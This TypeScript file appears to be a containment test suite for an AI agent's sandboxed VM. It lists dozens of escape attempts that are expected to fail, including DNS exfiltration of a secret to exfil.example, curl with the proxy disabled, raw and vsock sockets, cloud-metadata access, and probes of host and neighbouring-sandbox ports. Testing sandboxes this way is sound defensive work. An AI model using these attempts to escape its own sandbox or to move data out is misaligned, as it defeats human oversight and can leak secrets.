import type { GuestAttack, GuestScene, ListenerName } from '../attack.ts';
import { dial, each, question, resolveName, send } from '../guest/dial.ts';
import { python, run } from '../guest/programs.ts';

/** What a connection to anything but the own bundle meets: smolvm refuses it, or there is no network at all. */
const NO_WAY = { alias: /EACCES/, socket: /ENETUNREACH/ };
/** Real smolvm may drop a datagram silently. */
const NO_WAY_BY_UDP = { alias: /EACCES|timeout/, socket: /ENETUNREACH/ };
const NO_IPV6 = /EACCES|ENETUNREACH|EADDRNOTAVAIL|EAFNOSUPPORT/;
/** Loopback is the guest's own, where nothing listens; something does on the host. */
const NOT_THE_HOSTS = { alias: /EACCES|ECONNREFUSED/, socket: /ECONNREFUSED/ };

const others = ({ alias }: GuestScene) =>
  Array.from({ length: 16 }, (_, index) => `127.0.0.${16 + index}`).filter((other) => other !== alias);

/** Connects to a listener of the host. */
const toHost = (
  name: string,
  aim: ListenerName,
  meets: GuestAttack['meets'],
  host?: (address: string) => string,
): GuestAttack => ({
  ...{ name, as: 'agent', aims: [aim], meets },
  run: ({ listeners }) =>
    dial({ ...listeners[aim], host: host?.(listeners[aim].host) ?? listeners[aim].host }),
});

/** Attacks past the proxy, which need no more than a socket. */
export const DIRECT: readonly GuestAttack[] = [
  {
    name: 'connect to a public address',
    as: 'agent',
    meets: NO_WAY,
    run: () => dial({ host: '1.1.1.1', port: 443 }),
  },
  {
    name: 'connect to a public IPv6 address',
    as: 'agent',
    meets: NO_IPV6,
    run: () => dial({ host: '2606:4700:4700::1111', port: 443 }),
  },
  {
    name: 'connect to the true address of an allowed host, past the proxy',
    as: 'agent',
    meets: NO_WAY,
    run: ({ upstream }) => dial({ host: upstream, port: 443 }),
  },
  {
    name: 'send data with the first packet, without a connect (TCP Fast Open)',
    as: 'agent',
    meets: { alias: /EACCES|EOPNOTSUPP/, socket: /ENETUNREACH|EOPNOTSUPP/ },
    run: ({ upstream }) =>
      python(
        `
s = socket.socket(); s.settimeout(3)
s.sendto(b'x', socket.MSG_FASTOPEN, (words[0], 443))
s.recv(1)
return 'connected'`,
        upstream,
      ),
  },
  {
    name: 'ask a public DNS server by UDP',
    as: 'agent',
    meets: NO_WAY_BY_UDP,
    run: () => send('8.8.8.8', 53, question('allowed.example')),
  },
  {
    name: 'ask a public DNS server by TCP',
    as: 'agent',
    meets: NO_WAY,
    run: () => dial({ host: '8.8.8.8', port: 53 }),
  },
  {
    name: 'resolve the name of an allowed host',
    as: 'agent',
    meets: /EAI_AGAIN|ENOTFOUND/,
    run: () => resolveName('allowed.example'),
  },
  {
    name: 'carry data out in the names of DNS questions',
    as: 'agent',
    meets: /EAI_AGAIN|ENOTFOUND/,
    run: () => resolveName(`${Buffer.from('secret').toString('hex')}.exfil.example`),
  },
  {
    name: 'ask the neighbors by multicast DNS',
    as: 'agent',
    meets: { alias: /EACCES|ENETUNREACH|timeout/, socket: /ENETUNREACH/ },
    run: () => send('224.0.0.251', 5353, question('printer.local')),
  },
  {
    name: 'ask for an address by broadcast (DHCP)',
    as: 'agent',
    meets: { alias: /EACCES|ENETUNREACH|timeout/, socket: /ENETUNREACH/ },
    run: () => send('255.255.255.255', 67, Buffer.alloc(300, 1)),
  },
  {
    name: 'curl with the proxy switched off',
    as: 'agent',
    // Its exit codes: a name that does not resolve.
    meets: /exit 6/,
    run: async () => {
      const words = ['-sS', '-m', '10', '--noproxy', '*', 'https://allowed.example/'];
      return `exit ${(await run('curl', words)).code}`;
    },
  },
  {
    name: 'ping by an ICMP socket',
    as: 'agent',
    meets: { alias: /EACCES|EPERM|timeout/, socket: /EACCES|EPERM|ENETUNREACH/ },
    run: () =>
      python(`
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(2)
s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('1.1.1.1', 0))
s.recv(99)
return 'answered'`),
  },
  {
    name: 'open a raw IP socket',
    as: 'agent',
    meets: /EPERM/,
    run: () => python(`socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW); return 'opened'`),
  },
  {
    name: 'open a packet socket',
    as: 'agent',
    meets: /EPERM/,
    run: () => python(`socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768); return 'opened'`),
  },
  {
    name: 'connect to the hypervisor or the host by vsock',
    as: 'agent',
    meets:
      /(?:(?:EAFNOSUPPORT|ENODEV|EPERM|EACCES|ECONNRESET|ECONNREFUSED|EADDRNOTAVAIL|EHOSTUNREACH|timeout)(?:, )?)+/,
    run: () =>
      each(
        [0, 1, 2].map((cid) =>
          python(
            `
s = socket.socket(40, socket.SOCK_STREAM); s.settimeout(2)
s.connect((int(words[0]), 22))
return 'connected'`,
            cid,
          ),
        ),
      ),
  },
  {
    name: 'connect to the metadata service',
    as: 'agent',
    meets: NO_WAY,
    run: () => dial({ host: '169.254.169.254', port: 80 }),
  },
  {
    name: 'connect to the metadata service by its mapped IPv6 form',
    as: 'agent',
    meets: { alias: /EACCES|ENETUNREACH/, socket: /ENETUNREACH/ },
    run: () => dial({ host: '::ffff:169.254.169.254', port: 80 }),
  },
  {
    name: 'connect to the metadata service by IPv6',
    as: 'agent',
    meets: NO_IPV6,
    run: () => dial({ host: 'fd00:ec2::254', port: 80 }),
  },
  {
    name: 'connect to smolvm’s own gateway',
    as: 'agent',
    meets: NO_WAY,
    run: () => dial({ host: '100.96.0.1', port: 53 }),
  },
  toHost('connect to the host’s 127.0.0.1', 'loopback', NOT_THE_HOSTS),
  toHost(
    'connect to the host’s 127.0.0.1 by its mapped IPv6 form',
    'loopback',
    NOT_THE_HOSTS,
    (host) => `::ffff:${host}`,
  ),
  toHost('connect to the host’s 127.0.0.1 as 0.0.0.0', 'loopback', NOT_THE_HOSTS, () => '0.0.0.0'),
  toHost('connect to the host’s ::1', 'loopback6', /EACCES|ECONNREFUSED|EADDRNOTAVAIL|ENETUNREACH/),
  toHost('connect to the host’s address on its network', 'lan', NO_WAY),
  toHost('connect to the gateway of another bottle’s bridge', 'bridge', NO_WAY),
  toHost('connect to the gateway of the own bundle’s bridge', 'gateway', NO_WAY),
  toHost('connect to an alias that another bottle may have', 'alias', NOT_THE_HOSTS),
  {
    name: 'send a datagram to the host’s 127.0.0.1',
    as: 'agent',
    aims: ['loopback'],
    meets: { alias: /EACCES|timeout/, socket: /ECONNREFUSED|timeout/ },
    run: ({ listeners: { loopback } }) => send(loopback.host, loopback.port, 'from the guest'),
  },
  {
    name: 'send a datagram to the gateway of the own bundle’s bridge',
    as: 'agent',
    aims: ['gateway'],
    meets: NO_WAY_BY_UDP,
    run: ({ listeners: { gateway } }) => send(gateway.host, gateway.port, 'from the guest'),
  },
  {
    name: 'connect to another bottle’s egress',
    as: 'agent',
    meets: NOT_THE_HOSTS,
    run: ({ neighbor }) => dial({ host: neighbor.alias, port: neighbor.published.egress ?? 0 }),
  },
  {
    name: 'connect to another bottle’s supervise',
    as: 'agent',
    meets: NOT_THE_HOSTS,
    run: ({ neighbor }) => dial({ host: neighbor.alias, port: neighbor.published.supervise ?? 0 }),
  },
  {
    name: 'connect to another bottle’s git gate',
    as: 'agent',
    meets: NOT_THE_HOSTS,
    run: ({ neighbor }) => dial({ host: neighbor.alias, port: neighbor.published['git-http'] ?? 0 }),
  },
  {
    name: 'connect to another bottle’s bundle on its bridge',
    as: 'agent',
    meets: NO_WAY,
    run: ({ neighbor }) => each([9099, 9100, 9420].map((port) => dial({ host: neighbor.bundle, port }))),
  },
  {
    name: 'connect to every other alias, at the ports of both bottles',
    as: 'agent',
    meets: NOT_THE_HOSTS,
    run: (scene) => {
      const ports = [...Object.values(scene.neighbor.published), ...Object.values(scene.published)];
      return each(others(scene).flatMap((host) => ports.map((port) => dial({ host, port }))));
    },
  },
  {
    name: 'connect to the own bundle on its bridge, past the published ports',
    as: 'agent',
    meets: NO_WAY,
    run: ({ bundle }) => each([9099, 9100, 9418, 9420, 9443].map((port) => dial({ host: bundle, port }))),
  },
  {
    name: 'connect to the published ports, past the mounted sockets',
    as: 'agent',
    tiers: ['socket'],
    meets: /ECONNREFUSED/,
    run: ({ alias, published }) => each(Object.values(published).map((port) => dial({ host: alias, port }))),
  },
  {
    name: 'connect to daemons of the bundle that are not published',
    as: 'agent',
    meets: /ECONNREFUSED/,
    // git-gate, selftest, pipelock.
    run: ({ alias, tier }) => {
      const host = tier === 'alias' ? alias : '127.0.0.1';
      return each([9418, 9443, 8888].map((port) => dial({ host, port })));
    },
  },
  {
    name: 'connect to Docker’s API and common services of the host, by the own alias',
    as: 'agent',
    tiers: ['alias'],
    meets: /ECONNREFUSED/,
    run: ({ alias }) => each([2375, 2376, 5432, 6379, 11434].map((port) => dial({ host: alias, port }))),
  },
  {
    name: 'send datagrams to the own alias, at the port of egress',
    as: 'agent',
    tiers: ['alias'],
    meets: /ECONNREFUSED|timeout/,
    run: ({ alias, published }) => send(alias, published.egress ?? 0, question('allowed.example')),
  },
];
